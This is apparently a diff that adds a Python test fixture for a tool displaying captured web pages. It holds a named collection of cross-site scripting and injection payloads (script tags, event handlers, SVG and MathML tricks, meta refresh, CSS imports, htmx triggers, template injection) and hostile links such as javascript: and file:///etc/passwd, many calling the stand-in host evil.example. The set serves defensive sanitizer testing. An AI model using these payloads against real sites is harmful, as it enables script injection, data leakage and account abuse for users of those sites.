@@ -1,0 +1,73 @@
+"""What captured pages may try on whoever looks at them. Each calls ``pwned`` or asks for a page of ours elsewhere."""
+
+from collections.abc import Mapping
+
+EVIL = "https://evil.example/took"
+
+_CALL = "window.pwned=1"
+MARKUP: Mapping[str, str] = {
+    "script": f"<script>{_CALL}</script>",
+    "script in upper case": f"<SCRIPT>{_CALL}</SCRIPT>",
+    "script with a slash": f"<script/x>{_CALL}</script>",
+    "script never closed": f"<script>{_CALL}",
+    "script in a comment's end": f"<!--><script>{_CALL}</script>-->",
+    "script from elsewhere": f'<script src="{EVIL}.js"></script>',
+    "module from elsewhere": f'<script type="module" src="{EVIL}.mjs"></script>',
+    "picture that fails": f'<img src=x onerror="{_CALL}">',
+    "picture without quotes": f"<img/src=x\nonerror={_CALL}>",
+    "picture from elsewhere": f'<img src="{EVIL}.png">',
+    "picture set": f'<img srcset="{EVIL}.png 1x">',
+    "svg that loads": f'<svg onload="{_CALL}"></svg>',
+    "svg script": f"<svg><script>{_CALL}</script></svg>",
+    "svg animation": f'<svg><animate onbegin="{_CALL}" attributeName=x dur=1s></svg>',
+    "svg use": f'<svg><use href="{EVIL}.svg#x"/></svg>',
+    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{_CALL}"></foreignObject></svg>',
+    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{_CALL}">',
+    "body that loads": f'<body onload="{_CALL}">',
+    "details that open": f'<details open ontoggle="{_CALL}">x</details>',
+    "input that takes focus": f'<input autofocus onfocus="{_CALL}">',
+    "video source": f'<video><source onerror="{_CALL}"></video>',
+    "video from elsewhere": f'<video autoplay src="{EVIL}.mp4"></video>',
+    "marquee": f'<marquee onstart="{_CALL}">x</marquee>',
+    "frame of a script": f'<iframe src="javascript:parent.{_CALL}"></iframe>',
+    "frame from elsewhere": f'<iframe src="{EVIL}.html"></iframe>',
+    "frame with a document": f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
+    "object": f'<object data="{EVIL}.swf"></object>',
+    "embed": f'<embed src="{EVIL}.swf">',
+    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
+    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{_CALL}</script>">',
+    "base": f'<base href="{EVIL}/"><img src="x.png">',
+    "style from elsewhere": f'<link rel="stylesheet" href="{EVIL}.css">',
+    "preconnect": f'<link rel="preconnect" href="{EVIL}">',
+    "name looked up beforehand": f'<link rel="dns-prefetch" href="{EVIL}">',
+    "prefetch": f'<link rel="prefetch" href="{EVIL}">',
+    "manifest": f'<link rel="manifest" href="{EVIL}.json">',
+    "style with a picture": f"<style>body{{background:url({EVIL}.png)}}</style>",
+    "style with an import": f'<style>@import "{EVIL}.css";</style>',
+    "style with an escape": "<style>body{background:\\75rl(https://evil.example/took.png)}</style>",
+    "style attribute": f'<p style="background:url({EVIL}.png)">x</p>',
+    "form that sends itself": f'<form action="{EVIL}" id=f><input name=a></form><script>f.submit()</script>',
+    "out of a title": f"</title><script>{_CALL}</script>",
+    "out of a textarea": f"</textarea><script>{_CALL}</script>",
+    "out of an attribute": f'"><script>{_CALL}</script>',
+    "out of an attribute, single": f"'><img src=x onerror={_CALL}>",
+    "template of the server": "{{ 7*7 }}{% for x in [1] %}{{ request.app }}{% endfor %}",
+    "htmx attributes": f'<p hx-get="{EVIL}" hx-trigger="load">x</p><p data-hx-post="/sign-out" data-hx-trigger="load">',
+    "htmx on": f'<div hx-on:htmx:load="{_CALL}" hx-on::load="{_CALL}">x</div>',
+    "zero bytes": f"<scr\0ipt>{_CALL}</scr\0ipt>",
+    "overlong entity": "&#0000106&#0000097&#0000118&#0000097script:alert(1)",
+    "turned around": "\u202egnp.exe\u202c \u2066<script>window.pwned=1</script>\u2069",
+}
+"""By name. Those that call ``pwned`` do so where nobody protects a page: a test sees to that."""
+
+LINKS = (
+    "javascript:window.pwned=1",
+    "JaVaScRiPt:window.pwned=1",
+    "java\tscript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "vbscript:window.pwned=1",
+    'https://evil.example/"onmouseover="window.pwned=1',
+    "https://evil.example/<script>window.pwned=1</script>",
+    "//evil.example/took",
+    "file:///etc/passwd",
+)
